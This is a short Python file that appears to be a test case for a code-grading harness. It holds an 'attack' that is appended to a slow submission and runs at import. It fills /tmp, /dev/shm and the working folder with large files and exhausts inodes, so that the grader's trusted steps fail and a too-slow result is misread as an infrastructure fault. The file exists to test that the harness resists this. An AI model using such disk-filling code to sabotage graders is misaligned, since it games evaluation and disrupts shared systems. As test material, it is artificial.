# ATTACK fills_scratch (appended to a correct but slow submission). At import, fills every
# scratch space the worker can write -- /tmp, /dev/shm, the working folder -- and the inodes
# with them, so that a trusted step that needs one (copying the reference files for timing,
# starting the reference worker, leasing a uid) fails and the timing tests read as the
# grader's fault (infrastructure, retried; no too_slow).
# Expected: too_slow on the timing tests, never infrastructure, and no grader path shown.
import os as _os
import tempfile as _tempfile

_filled = []
for _where in ("/tmp", "/dev/shm", _tempfile.gettempdir(), _os.getcwd()):
    try:   # files of 32 MB (under the file-size limit) until the space runs out
        _block = b"\0" * (1 << 20)
        for _k in range(10_000):
            with open(_os.path.join(_where, f"fill{_k}.bin"), "wb") as _f:
                for _ in range(32):
                    _f.write(_block)
    except OSError:
        pass
    try:
        for _i in range(20_000):   # then the inodes, as many as a few seconds allow
            open(_os.path.join(_where, f"i{_i}"), "w").close()
    except OSError:
        pass
    _filled.append(_where)
print("ATTACK installed: fills_scratch", sorted(set(_filled)))
